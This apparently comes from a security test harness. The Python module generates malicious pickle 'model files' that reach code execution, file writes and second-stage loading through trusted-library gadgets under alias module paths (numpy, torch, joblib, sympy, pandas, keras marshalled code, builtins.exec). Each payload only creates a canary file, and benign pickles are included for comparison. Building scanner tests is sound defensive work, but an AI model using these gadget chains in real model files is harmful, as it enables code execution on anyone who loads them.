"""Family: pickles that call *trusted library* functions which write files, evaluate
expressions or load a second pickle (gadgets), under the alias module paths libraries re-export
them from; plus benign pickles of the same libraries' objects.

The streams are assembled with ``regression.pickle_asm`` because a pickler writes a function
under its defining module only, and the point here is every other spelling a loader accepts.
Whether a spelling works is the real loader's business: variants whose canary does not fire
(an attribute a module does not expose, a keyword-only parameter) are counted, not judged.

Three kinds of payload, each creating the variant's canary file under the real ``pickle``:
* file writers get the canary path as the file to create;
* evaluators get the canary source as the expression;
* loaders get a second pickle (``exec`` of the canary source) written under the canary
  directory before loading, by path or as bytes.
"""

from __future__ import annotations

import ast
import base64
import builtins
import marshal
import pickle
from collections.abc import Callable, Iterator
from pathlib import Path

from regression.pickle_asm import binbytes, binint, call, glob, pkl, sglob, tup, ustr
from regression.samples import Reduce

from differential.harness import PayloadFor, Variant, key_of

FAMILY = "pickle-gadgets"
NONE, EMPTY_DICT, EMPTY_TUPLE = b"N", b"}", b")"


def _canary(payload: PayloadFor, key: str) -> Path:
    """The file the canary source creates (``open(PATH, 'w').close()``)."""
    tree = ast.parse(payload(key), mode="eval").body
    assert isinstance(tree, ast.Call) and isinstance(tree.func, ast.Attribute)
    opener = tree.func.value
    assert isinstance(opener, ast.Call) and isinstance(opener.args[0], ast.Constant)
    return Path(str(opener.args[0].value))


def _global(spelling: str, protocol: int) -> bytes:
    """``module:qualname`` as GLOBAL (protocol < 4) or STACK_GLOBAL (protocol 4+)."""
    module, _, qualname = spelling.partition(":")
    return glob(module, qualname) if protocol < 4 else sglob(module, qualname)


Args = Callable[[Path, Path], tuple[bytes, ...]]
"""(canary path, second-stage path) -> the call's pickled arguments."""


def _writer(*args: Callable[[Path], bytes]) -> Args:
    return lambda canary, _stage: tuple(a(canary) for a in args)


def _path(p: Path) -> bytes:
    return ustr(str(p))


def _const(value: bytes) -> Callable[[Path], bytes]:
    return lambda _p: value


#: File writers: (spellings, arguments). The file they create is the canary.
WRITERS: list[tuple[tuple[str, ...], Args]] = [
    (("numpy:memmap", "numpy._core.memmap:memmap", "numpy.core.memmap:memmap"),
     _writer(_path, _const(ustr("uint8")), _const(ustr("w+")), _const(binint(0)),
             _const(tup(binint(1))))),
    (("numpy.lib.format:open_memmap", "numpy.lib._format_impl:open_memmap",
      "numpy:lib.format.open_memmap"),
     _writer(_path, _const(ustr("w+")), _const(ustr("uint8")), _const(tup(binint(1))))),
    (("gzip:open", "gzip:GzipFile", "bz2:open", "bz2:BZ2File", "lzma:open", "lzma:LZMAFile"),
     _writer(_path, _const(ustr("wb")))),
    (("joblib:dump", "joblib.numpy_pickle:dump", "joblib:numpy_pickle.dump"),
     _writer(_const(binint(0)), _path)),
    (("torch:save", "torch.serialization:save"), _writer(_const(binint(0)), _path)),
    (("scipy.io:savemat", "scipy.io.matlab:savemat", "scipy.io.matlab._mio:savemat"),
     _writer(_path, _const(EMPTY_DICT))),
    (("h5py:File", "h5py._hl.files:File"), _writer(_path, _const(ustr("w")))),
    (("safetensors.torch:save_file", "safetensors.numpy:save_file"),
     _writer(_const(EMPTY_DICT), _path)),
]

#: Evaluators: spellings called with the canary source as the one argument.
EVALUATORS = (
    "sympy:sympify", "sympy.core.sympify:sympify", "sympy.core:sympify", "sympy:parse_expr",
    "sympy.parsing.sympy_parser:parse_expr", "sympy.parsing:parse_expr", "sympy:simplify",
    "sympy:N", "sympy:S",
)

#: Loaders of a second pickle, given its path.
PATH_LOADERS: list[tuple[tuple[str, ...], Callable[[bytes], tuple[bytes, ...]]]] = [
    (("pandas:read_pickle", "pandas.io.pickle:read_pickle"), lambda p: (p,)),
    (("joblib:load", "joblib.numpy_pickle:load"), lambda p: (p,)),
    (("numpy:load", "numpy.lib._npyio_impl:load"), lambda p: (p, NONE, b"\x88")),
]


def _file_writers(payload: PayloadFor) -> Iterator[Variant]:
    for spellings, args in WRITERS:
        for spelling in spellings:
            for protocol in (2, 4):
                name = f"write_{spelling.replace(':', '__')}_p{protocol}"
                canary = _canary(payload, key_of(FAMILY, name))
                data = pkl(call(_global(spelling, protocol), *args(canary, canary)), protocol)
                yield Variant(FAMILY, name, "model.pkl", data, "pickle")


def _evaluators(payload: PayloadFor) -> Iterator[Variant]:
    for spelling in EVALUATORS:
        for protocol in (2, 4):
            name = f"eval_{spelling.replace(':', '__')}_p{protocol}"
            source = payload(key_of(FAMILY, name))
            data = pkl(call(_global(spelling, protocol), ustr(source)), protocol)
            yield Variant(FAMILY, name, "model.pkl", data, "pickle")


def _stage(payload: PayloadFor, name: str) -> tuple[Path, bytes]:
    """Write the second-stage pickle of variant ``name``; returns its path and bytes."""
    key = key_of(FAMILY, name)
    stage_dir = _canary(payload, key).parent / "stages" / name
    stage_dir.mkdir(parents=True, exist_ok=True)
    stage = pickle.dumps(Reduce(builtins.exec, payload(key)), 2)
    path = stage_dir / "weights.pth"
    path.write_bytes(stage)
    return path, stage


def _loaders(payload: PayloadFor) -> Iterator[Variant]:
    for spellings, args in PATH_LOADERS:
        for spelling in spellings:
            name = f"load_{spelling.replace(':', '__')}"
            path, _ = _stage(payload, name)
            data = pkl(call(_global(spelling, 2), *args(ustr(str(path)))), 2)
            yield Variant(FAMILY, name, "model.pkl", data, "pickle")
    # torch.hub's checkpoint helper, re-exported as torch.utils.model_zoo.load_url: a cached
    # file of the URL's basename in model_dir is loaded with weights_only=False, no download.
    for spelling in ("torch.utils.model_zoo:load_url", "torch.hub:load_state_dict_from_url"):
        for protocol in (2, 4):
            name = f"load_{spelling.replace(':', '__')}_p{protocol}"
            path, _ = _stage(payload, name)
            url = ustr(f"http://127.0.0.1:9/{path.name}")
            data = pkl(call(_global(spelling, protocol), url, ustr(str(path.parent))), protocol)
            yield Variant(FAMILY, name, "model.pkl", data, "pickle")
    for protocol in (2, 4):  # pandas' own unpickler on embedded bytes
        name = f"load_pandas_compat_loads_p{protocol}"
        _, stage = _stage(payload, name)
        data = pkl(call(_global("pandas.compat.pickle_compat:loads", protocol),
                        binbytes(stage)), protocol)
        yield Variant(FAMILY, name, "model.pkl", data, "pickle")
    for protocol in (2, 4):  # keras rebuilds a function from marshalled code; REDUCE calls it
        name = f"keras_func_load_p{protocol}"
        code = compile(payload(key_of(FAMILY, name)), "<lambda>", "exec")
        b64 = base64.b64encode(marshal.dumps(code)).decode("ascii")
        func = call(_global("keras.src.utils.python_utils:func_load", protocol), ustr(b64))
        data = pkl(func + EMPTY_TUPLE + b"R", protocol)
        yield Variant(FAMILY, name, "model.pkl", data, "pickle")


def _benign() -> Iterator[Variant]:
    """The same libraries' objects as a model file holds them, pickled by the real pickler."""
    import datetime

    import numpy
    import pandas
    import scipy.sparse
    from sklearn.linear_model import LogisticRegression

    objects: dict[str, object] = {
        "numpy_array": numpy.arange(6, dtype="float32").reshape(2, 3),
        # integer labels: string labels pickle through pyarrow when pyarrow is installed
        "pandas_frame": pandas.DataFrame(numpy.arange(6.0).reshape(3, 2)),
        "pandas_series_dates": pandas.Series(pandas.date_range("2024-01-01", periods=3)),
        "sklearn_estimator": LogisticRegression(C=0.5),
        "utc_datetime": datetime.datetime(2024, 1, 1, tzinfo=datetime.UTC),
        "scipy_sparse": scipy.sparse.csr_matrix(numpy.eye(3, dtype="float32")),
    }
    for name, value in objects.items():
        for protocol in (2, 4):
            yield Variant(FAMILY, f"benign_{name}_p{protocol}", "model.pkl",
                          pickle.dumps(value, protocol), "pickle", malicious=False)


def variants(payload: PayloadFor) -> Iterator[Variant]:
    yield from _file_writers(payload)
    yield from _evaluators(payload)
    yield from _loaders(payload)
    yield from _benign()
